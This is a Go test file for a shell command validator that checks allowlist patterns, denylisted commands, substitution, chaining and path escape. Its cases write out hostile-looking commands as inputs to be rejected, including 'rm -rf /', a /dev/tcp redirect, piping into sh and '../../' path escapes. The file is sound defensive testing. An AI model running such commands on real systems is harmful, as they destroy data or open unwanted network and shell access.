package validate

import (
	"path/filepath"
	"testing"
)

func TestCommandValidator_Allowlist(t *testing.T) {
	root := t.TempDir()
	v := NewCommandValidator(root, []string{"echo *", "npm *", "git push *"})

	cases := []struct {
		name    string
		cmd     string
		allowed bool
	}{
		{"allowed echo", "echo hello", true},
		{"allowed npm", "npm install", true},
		{"not in allowlist", "curl https://example.com", false},
		{"denylist sudo", "sudo echo hi", false},
		{"denylist rm rf root", "rm -rf /", false},
		{"command substitution", "echo $(whoami)", false},
		{"backtick substitution", "echo `whoami`", false},
		{"process substitution", "echo <(ls)", false},
		{"dev tcp redirect", "echo hi > /dev/tcp/1.2.3.4/80", false},
		{"bare interpreter pipeline", "echo hi | sh", false},
		{"cd auto-allowed", "cd " + root, true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			res := v.Validate(tc.cmd)
			if res.Allowed != tc.allowed {
				t.Fatalf("Validate(%q) = %+v, want allowed=%v", tc.cmd, res, tc.allowed)
			}
		})
	}
}

func TestCommandValidator_MostSpecificPattern(t *testing.T) {
	v := NewCommandValidator(t.TempDir(), []string{"git *", "git push *"})
	res := v.Validate("git push origin main")
	if !res.Allowed {
		t.Fatalf("expected allowed, got %+v", res)
	}
	if res.MatchedPattern != "git push *" {
		t.Fatalf("expected most specific pattern match, got %q", res.MatchedPattern)
	}
}

func TestCommandValidator_PathEscape(t *testing.T) {
	root := t.TempDir()
	v := NewCommandValidator(root, []string{"cat *"})
	res := v.Validate("cat ../../outside.txt")
	if res.Allowed {
		t.Fatalf("expected path escape to be rejected, got %+v", res)
	}
}

func TestCommandValidator_QuotedSubstitutionIsLiteral(t *testing.T) {
	v := NewCommandValidator(t.TempDir(), []string{"echo *"})
	res := v.Validate(`echo '$(not a real substitution)'`)
	if !res.Allowed {
		t.Fatalf("expected single-quoted text to be treated literally, got %+v", res)
	}
}

func TestCommandValidator_Chained(t *testing.T) {
	v := NewCommandValidator(t.TempDir(), []string{"echo *"})
	res := v.Validate("echo one && sudo echo two")
	if res.Allowed {
		t.Fatalf("expected chained denylist command to be rejected, got %+v", res)
	}
}

func TestSplitSubcommands(t *testing.T) {
	subs, err := splitSubcommands("echo a && echo b | grep c; echo d")
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	want := []string{"echo a ", " echo b ", " grep c", " echo d"}
	if len(subs) != len(want) {
		t.Fatalf("got %d subcommands, want %d: %v", len(subs), len(want), subs)
	}
}

func TestResolveInRoot(t *testing.T) {
	root := t.TempDir()
	v := NewCommandValidator(root, nil)
	resolved, err := v.resolveInRoot("sub/file.txt")
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if resolved != filepath.Join(root, "sub/file.txt") {
		t.Fatalf("got %q", resolved)
	}
	if _, err := v.resolveInRoot("../outside.txt"); err == nil {
		t.Fatal("expected error for path escaping root")
	}
}
